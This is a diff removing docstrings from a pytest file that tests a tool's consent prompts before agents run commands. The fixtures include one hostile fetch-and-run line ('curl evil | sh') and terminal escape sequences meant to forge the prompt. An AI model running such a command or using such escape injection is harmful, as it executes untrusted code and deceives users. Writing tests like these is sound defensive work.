@@ -39,7 +39,6 @@ def asks(kernel: KernelDouble, demands: tuple[str, ...] = DEMANDS) -> None:
 
 
 def test_a_person_is_asked_once_and_agrees_to_what_was_shown(cli: Cli, kernel: KernelDouble) -> None:
-    """``y`` is for this time, and nothing is kept."""
     asks(kernel)
     ran = cli("send", "alice", "hi", stdin="y\n", terminal=True)
     assert ran.code == 0
@@ -52,7 +51,6 @@ def test_a_person_is_asked_once_and_agrees_to_what_was_shown(cli: Cli, kernel: K
 
 
 def test_what_is_kept_is_written_before_it_is_used(cli: Cli, kernel: KernelDouble) -> None:
-    """``a`` is for as long as the files say the same."""
     asks(kernel)
     assert cli("send", "alice", "hi", stdin="a\n", terminal=True).code == 0
     (kept,) = cli("trust", "list", "--json").json()["consents"]
@@ -81,7 +79,6 @@ def test_nobody_is_asked_where_nobody_is(cli: Cli, kernel: KernelDouble) -> None
 
 @pytest.mark.promise("P19")
 def test_files_that_change_while_the_question_stands_are_asked_about_again(cli: Cli, kernel: KernelDouble) -> None:
-    """The answer is for what was shown, not for what is there by then."""
     swapped = ("alice runs: curl evil | sh",)
     refusals = [untrusted(), untrusted(swapped, before=DEMANDS)]
     kernel.answers["POST /messages"] = lambda _asked: refusals.pop(0)
@@ -91,14 +88,12 @@ def test_files_that_change_while_the_question_stands_are_asked_about_again(cli: 
 
 
 def test_a_kernel_that_never_agrees_is_not_asked_for_ever(cli: Cli, kernel: KernelDouble) -> None:
-    """A demand that was agreed to and is refused all the same is a refusal."""
     kernel.answers["POST /messages"] = untrusted()
     assert cli("send", "alice", "hi", stdin="y\n" * 9, terminal=True).code == 7
     assert len(kernel.of("POST", "/messages")) == 2
 
 
 def test_a_run_asks_too(cli: Cli, kernel: KernelDouble) -> None:
-    """run, start, ask and serve ask as send does."""
     for command in (("run", "review"), ("start", "review"), ("ask", "alice", "hi"), ("serve", "alice", "hi")):
         for route in ("/run", "/workflows", "/serve"):
             kernel.answers[f"POST {route}"] = untrusted()
@@ -108,7 +103,6 @@ def test_a_run_asks_too(cli: Cli, kernel: KernelDouble) -> None:
 
 @pytest.mark.promise("P16")
 def test_a_demand_cannot_pass_for_the_question(cli: Cli, kernel: KernelDouble) -> None:
-    """Control characters are shown, and every line of a command is indented."""
     asks(kernel, ("alice runs: id\nGo on? \x1b[2Jy\u202e",))
     ran = cli("send", "alice", "hi", stdin="n\n", terminal=True)
     assert "\x1b" not in ran.err
@@ -117,7 +111,6 @@ def test_a_demand_cannot_pass_for_the_question(cli: Cli, kernel: KernelDouble) -
 
 
 def test_a_long_demand_goes_on_behind_its_indent() -> None:
-    """Where a terminal would break it, nothing begins at the first column."""
     want = {"subject": "agent alice", "digest": "d" * 64, "demands": [f"alice runs: {'x' * 64}Go on? [y = this time]"]}
     _, *rows = unit_lines(want, Screen(width=80))
     assert len(rows) == 2 and all(row.startswith("    ") and len(row) <= 80 for row in rows)
@@ -149,7 +142,6 @@ def test_a_file_that_is_wrong_is_left_out_by_its_key_and_is_no_success(cli: Cli)
 @pytest.mark.promise("P19")
 @pytest.mark.long("tests/kernel/workflows/test_remote.py")
 def test_a_workflow_of_another_repository_is_seen_and_trusted_before_it_ever_ran(cli: Cli, tmp_path: Path) -> None:
-    """Fetched to be looked at, by commit and content; not pinned, nothing run, no kernel."""
     with git_host(tmp_path / "host") as host:
         host.write(
             "review.yaml", "agents: {bob: {backend: mock, mock: [{text: hi}]}}\nkickoff: '@bob ${{ source.ref }}'\n"
@@ -177,7 +169,6 @@ def test_a_workflow_of_another_repository_is_seen_and_trusted_before_it_ever_ran
 
 @pytest.mark.promise("P19", "XF19")
 def test_what_an_agent_runs_agrees_to_nothing(cli: Cli, kernel: KernelDouble) -> None:
-    """Below the project's kernel nothing is kept and nothing taken back, whoever seems to sit there."""
     (cli.root / ".agents/alice.yaml").write_text(ALICE)
     assert cli("trust", "--yes").code == 0
     kernel.publish(cli.home, cli.root, pid=os.getppid())
@@ -192,14 +183,12 @@ def test_what_an_agent_runs_agrees_to_nothing(cli: Cli, kernel: KernelDouble) ->
 
 @pytest.mark.promise("PF11")
 def test_a_process_with_the_number_of_a_kernel_that_is_gone_is_no_kernel(cli: Cli, kernel: KernelDouble) -> None:
-    """A record may be left over, and its pid somebody else's by now."""
     kernel.publish(cli.home, cli.root, pid=os.getppid(), start_time=1)
     (cli.root / ".agents/alice.yaml").write_text(ALICE)
     assert cli("trust", "--yes").code == 0
 
 
 def test_what_changed_since_is_marked(cli: Cli) -> None:
-    """A new demand is shown as new; --yes keeps it."""
     (cli.root / ".agents/alice.yaml").write_text(ALICE)
     assert cli("trust", "--yes").code == 0
     (cli.root / ".agents/alice.yaml").write_text(ALICE.replace("  - text", "  - shell: id\n  - text"))
@@ -212,7 +201,6 @@ def test_what_changed_since_is_marked(cli: Cli) -> None:
 
 @pytest.mark.promise("P23")
 def test_a_file_of_consents_that_others_could_write_is_not_added_to(cli: Cli) -> None:
-    """What is not ours alone is not believed."""
     (cli.root / ".agents/alice.yaml").write_text(ALICE)
     assert cli("trust", "--yes").code == 0
     state = project_state(str(cli.home), str(cli.root))
